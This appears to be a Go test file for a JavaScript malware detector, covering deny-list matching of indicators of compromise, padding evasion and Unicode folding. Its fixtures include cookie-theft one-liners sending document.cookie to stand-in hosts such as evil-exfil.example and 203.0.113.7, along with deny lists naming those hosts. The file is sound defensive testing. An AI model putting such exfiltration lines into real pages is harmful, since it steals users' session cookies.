// Needle-gated IOC extraction: the gated Eval must return exactly the
// verdict of extracting every token (below the per-script token cap),
// padding past the cap must not hide a listed indicator, and the deny
// prefilter must fold case the way the host regex does.
package rules

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obfuscate"
)

// oracleIOCs is ungated extraction: every host and IP token of every text
// and string literal, capped at maxIOCTokens per category as the capped
// regex scan always was. truncated reports whether a cap was reached, past
// which the oracle is no longer the reference.
func oracleIOCs(texts []string, prog *ast.Program) (io *iocSet, truncated bool) {
	io = &iocSet{}
	seen := map[string]bool{}
	add := func(s string) {
		if len(io.hosts) < maxIOCTokens {
			for _, h := range reHost.FindAllString(s, maxIOCTokens-len(io.hosts)) {
				h = strings.ToLower(h)
				if !seen["h:"+h] {
					seen["h:"+h] = true
					io.hosts = append(io.hosts, h)
				}
			}
		}
		if len(io.ips) < maxIOCTokens {
			for _, ip := range reIP.FindAllString(s, maxIOCTokens-len(io.ips)) {
				if validIPv4(ip) && !seen["i:"+ip] {
					seen["i:"+ip] = true
					io.ips = append(io.ips, ip)
				}
			}
		}
	}
	for _, t := range texts {
		add(t)
	}
	if prog != nil {
		ast.Walk(prog, func(n ast.Node) bool {
			if lit, ok := n.(*ast.Literal); ok && lit.Kind == ast.LiteralString {
				add(lit.StrVal)
			}
			return true
		})
	}
	return io, len(io.hosts) >= maxIOCTokens || len(io.ips) >= maxIOCTokens
}

// oracleIOCsFor is oracleIOCs over in's views, failing the test past the
// cap.
func oracleIOCsFor(t *testing.T, in Input) *iocSet {
	t.Helper()
	io, truncated := oracleIOCs(in.texts(), in.Prog)
	if truncated {
		t.Fatalf("%s: oracle extraction reached the %d-token cap; keep inputs below it", in.Name, maxIOCTokens)
	}
	return io
}

// gateSets mix every list entry kind in both roles. Host-shaped tokens in
// JavaScript are mostly member chains (document.cookie,
// String.fromCharCode), which gives the lists real matches across the
// corpus; the 127.0.0.1 exfil endpoint covers IPs.
var gateSets = []string{
	`{"version":1,
	  "deny":[{"id":"d-dom","domains":["document.cookie","evil-exfil.example"]},
	          {"id":"d-tld","tlds":[".fromcharcode"]},
	          {"id":"d-ip","ips":["127.0.0.1"]},
	          {"id":"d-str","strings":["unescape("]}],
	  "allow":[{"id":"a-dom","domains":["math.random","navigator.useragent"]},
	           {"id":"a-tld","tlds":["length","xmlhttp"]},
	           {"id":"a-ip","ips":["10.1.2.3"]},
	           {"id":"a-str","strings":["console.log("]}],
	  "signatures":[{"id":"s-eval","severity":"high","match":{"regex":"eval\\s*\\("}}]}`,
	`{"version":1,
	  "allow":[{"id":"a-only","domains":["window.location","cdn.trusted.example"],"tlds":["write","push"],"ips":["127.0.0.1"]}]}`,
	`{"version":1,
	  "deny":[{"id":"d-only","domains":["evil-exfil.example"],"tlds":["floor","charcodeat"],"ips":["10.0.0.1"]}],
	  "signatures":[{"id":"s-sub","severity":"low","match":{"substring":"function"}}]}`,
}

// feedDomains returns n deterministic random domains shaped like a threat
// feed's: one random 6-13 letter label under a common TLD.
func feedDomains(n int) []string {
	rng := rand.New(rand.NewSource(int64(n)))
	tlds := []string{"com", "net", "xyz", "top", "ru"}
	out := make([]string, n)
	for i := range out {
		b := make([]byte, 6+rng.Intn(8))
		for j := range b {
			b[j] = 'a' + byte(rng.Intn(26))
		}
		out[i] = string(b) + "." + tlds[rng.Intn(len(tlds))]
	}
	return out
}

// feedSet is a rule set whose deny list holds n feed domains followed by
// the given ones, plus the extra top-level JSON members.
func feedSet(n int, domains []string, extra string) string {
	q, _ := json.Marshal(append(feedDomains(n), domains...))
	return fmt.Sprintf(`{"version":1,"deny":[{"id":"feed","domains":%s}]%s}`, q, extra)
}

// largeGateSet has more probes than maxGateProbes, so Eval's gate stays
// open and every view is extracted. It also lists an IP the IP regex
// matches but validIPv4 rejects, which must never match.
var largeGateSet = feedSet(maxGateProbes, []string{"document.cookie", "evil-exfil.example"},
	`,"allow":[{"id":"a-big","domains":["math.random"],"tlds":["length"],"ips":["127.0.0.1","127.000.0.1"]}]`)

// literalOnly scripts hide a listed host from the text views behind an
// escape that only the parsed string literal decodes.
var literalOnly = []string{
	`var u = "https://cdn.evil-\x65xfil.example/p?c="; new Image().src = u + document.title;`,
	`var m = "\x6dath.random"; var w = "cdn.trusted.\x65xample"; console["log"](m, w);`,
	`var a = "127.000.0.1", b = "127.0.0.\x31"; fetch("http://" + a); fetch("http://" + b);`,
}

// TestGatedEvalMatchesUngatedOracle: over corpus scripts, unobfuscated and
// through each of the four paper obfuscators, with deobfuscation off and
// on, gated Eval returns exactly the oracle's Verdict — action, and every
// hit's rule, kind, severity, and evidence — with the program and without.
func TestGatedEvalMatchesUngatedOracle(t *testing.T) {
	var srcs []string
	for _, s := range corpus.Generate(corpus.Config{Benign: 1, Malicious: 1, Seed: 5}) {
		srcs = append(srcs, s.Source)
	}
	srcs = append(srcs, literalOnly...)
	var sets []*Set
	for _, g := range append(gateSets, largeGateSet) {
		sets = append(sets, mustCompileFile(t, g))
	}
	deob := deobfuscate.NewPipeline(deobfuscate.Config{Enabled: true})
	reg := obfuscate.Registry(3)
	var inputs, deny, allow, viaLiterals int
	// The unobfuscated view ("clean") rides along: the obfuscators reprint
	// literals unescaped, so only there does a host stay literal-only.
	for _, tool := range append([]string{"clean"}, obfuscate.PaperOrder()...) {
		for i, src := range srcs {
			osrc := src
			if tool != "clean" {
				var err error
				if osrc, err = reg[tool].Obfuscate(src); err != nil {
					t.Fatalf("%s #%d: %v", tool, i, err)
				}
			}
			for _, on := range []bool{false, true} {
				in := Input{Name: fmt.Sprintf("%s/%d/deob=%v", tool, i, on), Raw: osrc, Normalized: osrc}
				if on {
					if out, _, err := deob.Normalize(context.Background(), osrc, parser.Limits{}); err == nil {
						in.Normalized = out
					}
				}
				var err error
				if in.Prog, err = parser.Parse(in.Normalized); err != nil {
					t.Fatalf("%s: parse: %v", in.Name, err)
				}
				inputs++
				noProg := in
				noProg.Prog = nil
				// Extraction does not depend on the set: one oracle
				// extraction per view serves all of them.
				oracle, oracleNoProg := oracleIOCsFor(t, in), oracleIOCsFor(t, noProg)
				for si, set := range sets {
					got := set.Eval(context.Background(), in)
					if want := set.verdict(context.Background(), in, in.texts(), oracle); !reflect.DeepEqual(got, want) {
						t.Fatalf("%s set %d:\n gated  %+v\n oracle %+v", in.Name, si, got, want)
					}
					gotNoProg := set.Eval(context.Background(), noProg)
					if want := set.verdict(context.Background(), noProg, noProg.texts(), oracleNoProg); !reflect.DeepEqual(gotNoProg, want) {
						t.Fatalf("%s set %d without Prog:\n gated  %+v\n oracle %+v", in.Name, si, gotNoProg, want)
					}
					for _, h := range got.Hits {
						switch h.Kind {
						case HitDeny:
							deny++
						case HitAllow:
							allow++
						}
					}
					if !reflect.DeepEqual(listHits(got), listHits(gotNoProg)) {
						viaLiterals++
					}
				}
			}
		}
	}
	// The property is only as strong as its coverage: list hits of both
	// roles, and hits that only a string literal carried.
	if deny == 0 || allow == 0 || viaLiterals == 0 {
		t.Fatalf("vacuous run over %d inputs: deny hits %d, allow hits %d, literal-only verdicts %d",
			inputs, deny, allow, viaLiterals)
	}
	t.Logf("%d inputs x %d sets: deny hits %d, allow hits %d, literal-only verdicts %d",
		inputs, len(sets), deny, allow, viaLiterals)
}

// listHits keeps a verdict's deny and allow hits.
func listHits(v Verdict) []Hit {
	var out []Hit
	for _, h := range v.Hits {
		if h.Kind != HitSignature {
			out = append(out, h)
		}
	}
	return out
}

// paddedScript hides one listed indicator behind more than maxIOCTokens
// distinct unlisted tokens of the same category.
func paddedScript(pad func(i int) string, tail string) string {
	var b strings.Builder
	b.WriteString("var pad = '")
	for i := 0; i < maxIOCTokens+8; i++ {
		b.WriteString(pad(i))
		b.WriteByte(' ')
	}
	b.WriteString("';\n")
	b.WriteString(tail)
	return b.String()
}

// TestPaddingCannotHideListedIOC: unrelated hosts, IPs, or TLD-bearing
// hosts ahead of a deny-listed indicator used to fill the per-script
// token cap before extraction reached it; so would hosts that contain the
// indicator without matching it. Only tokens that match a list
// entry count toward the cap now, whether or not the gate probes.
func TestPaddingCannotHideListedIOC(t *testing.T) {
	cases := []struct {
		name, rules, src, evidence string
	}{
		{"host",
			`{"version":1,"deny":[{"id":"c2","domains":["evil-exfil.example"]}]}`,
			paddedScript(func(i int) string { return fmt.Sprintf("h%d.io", i) },
				`new Image().src='https://evil-exfil.example/c?d='+document.cookie;`),
			"evil-exfil.example"},
		{"ip",
			`{"version":1,"deny":[{"id":"c2","ips":["203.0.113.7"]}]}`,
			paddedScript(func(i int) string { return fmt.Sprintf("10.0.%d.%d", i/256, i%256) },
				`fetch('http://203.0.113.7/c?d='+document.cookie);`),
			"203.0.113.7"},
		{"tld",
			`{"version":1,"deny":[{"id":"c2","tlds":["zip"]}]}`,
			paddedScript(func(i int) string { return fmt.Sprintf("h%d.io", i) },
				`fetch('https://drop.payload.zip/c?d='+document.cookie);`),
			"drop.payload.zip"},
		{"look-alike host",
			`{"version":1,"deny":[{"id":"c2","domains":["evil-exfil.example"]}]}`,
			paddedScript(func(i int) string { return fmt.Sprintf("h%d-evil-exfil.example", i) },
				`new Image().src='https://evil-exfil.example/c?d='+document.cookie;`),
			"evil-exfil.example"},
		{"host past the probe limit",
			strings.Replace(feedSet(maxGateProbes, []string{"evil-exfil.example"}, ""), `"feed"`, `"c2"`, 1),
			paddedScript(func(i int) string { return fmt.Sprintf("h%d.io", i) },
				`new Image().src='https://evil-exfil.example/c?d='+document.cookie;`),
			"evil-exfil.example"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := mustCompileFile(t, c.rules)
			want := []Hit{{Rule: "c2", Kind: HitDeny, Severity: SeverityHigh, Evidence: c.evidence}}
			if v := set.EvalText(context.Background(), c.src); v.Action != ActionMalicious || !reflect.DeepEqual(v.Hits, want) {
				t.Errorf("EvalText = %+v, want deny %+v", v, want)
			}
			if v := evalRaw(t, set, c.src); v.Action != ActionMalicious || !reflect.DeepEqual(v.Hits, want) {
				t.Errorf("Eval = %+v, want deny %+v", v, want)
			}
		})
	}
}

// TestDenyPrefilterFoldsUnicode: reHost's (?i) accepts U+212A KELVIN SIGN
// as k, and strings.ToLower maps it to k, so Eval denies a host spelled
// with it. EvalText's prefilter must agree, or triage could clear a script
// the full pass would deny. U+017F (long s) folds to s in the probe too;
// ToLower keeps it, so neither pass denies it, and both must agree.
func TestDenyPrefilterFoldsUnicode(t *testing.T) {
	set := mustCompileFile(t, `{"version":1,"deny":[{"id":"kit","domains":["kit.example"]},{"id":"site","domains":["site.example"]}]}`)
	cases := []struct {
		src  string
		want Action
	}{
		{"fetch('https://\u212ait.example/x')", ActionMalicious},
		{"fetch('https://cdn.\u212aIT.example/x')", ActionMalicious},
		{"fetch('https://\u017fite.example/x')", ActionNone},
	}
	for _, c := range cases {
		tv := set.EvalText(context.Background(), c.src)
		v := evalRaw(t, set, c.src)
		if tv.Action != c.want || v.Action != c.want {
			t.Errorf("%q: EvalText %v, Eval %v, want %v", c.src, tv.Action, v.Action, c.want)
		}
		if !reflect.DeepEqual(tv.Hits, v.Hits) {
			t.Errorf("%q: EvalText hits %+v, Eval hits %+v", c.src, tv.Hits, v.Hits)
		}
	}
}

// TestFoldMatchesRuneFolding: fold equals folding rune by rune — ASCII
// letters to lower case, U+212A to k, U+017F to s, every other byte kept,
// including a truncated U+212A or U+017F — on random mixes of those.
func TestFoldMatchesRuneFolding(t *testing.T) {
	alphabet := []string{"A", "Z", "a", "z", "@", "[", "0", ".",
		"\u212a", "\u017f", "\u212b", "\u0170", "\xe2\x84", "\xc5"}
	folded := map[string]string{"A": "a", "Z": "z", "\u212a": "k", "\u017f": "s"}
	rng := rand.New(rand.NewSource(1))
	var f folder
	for n := 0; n < 2000; n++ {
		var in, want strings.Builder
		for k := rng.Intn(40); k > 0; k-- {
			c := alphabet[rng.Intn(len(alphabet))]
			in.WriteString(c)
			if l, ok := folded[c]; ok {
				c = l
			}
			want.WriteString(c)
		}
		if got := string(f.fold(in.String())); got != want.String() {
			t.Fatalf("fold(%q) = %q, want %q", in.String(), got, want.String())
		}
	}
}

// benchRuleSet mirrors the load benchmark's rule directory: one deny-listed
// C2 domain and the Jfogs signatures, one of them over path contexts.
const benchRuleSet = `{
  "version": 1,
  "deny": [{"id": "exfil-c2-2026-08", "severity": "critical", "domains": ["evil-exfil.example"]}],
  "signatures": [
    {"id": "jfogs-fog-pool", "severity": "high",
     "match": {"any": [{"regex": "\\$fog\\$[0-9a-f]+\\s*\\["}, {"regex": "\\$fogcall\\$[0-9]+\\s*\\("}]}},
    {"id": "jfogs-dispatch-shape", "severity": "medium",
     "match": {"all": [
       {"path": {"node": "MemberExpression", "min_count": 12}},
       {"any": [{"path": {"source": "eval", "node": "CallExpression"}}, {"substring": "new Function("}]}
     ]}}
  ]
}`

// BenchmarkRulesEval measures the rules layer over obfuscated scripts (the
// four paper obfuscators): the pre-triage deny pass over the raw view
// ("text"), and the full pass over the raw and normalized views, with and
// without the parsed program. Three rule sets: the load benchmark's
// ("bench", one deny-listed domain that no pool script contains), and
// feed-sized deny lists of maxGateProbes and 4096 domains (the largest
// list Compile accepts), each including five hosts the pool's scripts do
// contain, so the gate both skips and extracts; the larger one is past the
// probe limit.
func BenchmarkRulesEval(b *testing.B) {
	present := []string{"document.cookie", "string.fromcharcode", "math.random", "window.location", "evil-exfil.example"}
	sets := []struct {
		name, src string
	}{
		{"bench", benchRuleSet},
		{fmt.Sprintf("feed%d", maxGateProbes), feedSet(maxGateProbes-len(present), present, "")},
		{"feed4096", feedSet(4096-len(present), present, "")},
	}
	deob := deobfuscate.NewPipeline(deobfuscate.Config{Enabled: true})
	reg := obfuscate.Registry(7)
	var pool []Input
	for _, s := range corpus.Generate(corpus.Config{Benign: 4, Malicious: 4, Seed: 9}) {
		for _, tool := range obfuscate.PaperOrder() {
			osrc, err := reg[tool].Obfuscate(s.Source)
			if err != nil {
				b.Fatal(err)
			}
			norm, _, err := deob.Normalize(context.Background(), osrc, parser.Limits{})
			if err != nil {
				norm = osrc
			}
			prog, err := parser.Parse(norm)
			if err != nil {
				b.Fatal(err)
			}
			pool = append(pool, Input{Name: tool, Raw: osrc, Normalized: norm, Prog: prog})
		}
	}
	ctx := context.Background()
	for _, rs := range sets {
		f, err := Parse("bench.json", []byte(rs.src))
		if err != nil {
			b.Fatal(err)
		}
		set, err := Compile([]*File{f})
		if err != nil {
			b.Fatal(err)
		}
		b.Run(rs.name+"/text", func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				set.EvalText(ctx, pool[i%len(pool)].Raw)
			}
		})
		for _, withProg := range []bool{false, true} {
			b.Run(fmt.Sprintf("%s/prog=%v", rs.name, withProg), func(b *testing.B) {
				for i := 0; i < b.N; i++ {
					in := pool[i%len(pool)]
					if !withProg {
						in.Prog = nil
					}
					set.Eval(ctx, in)
				}
			})
		}
	}
}
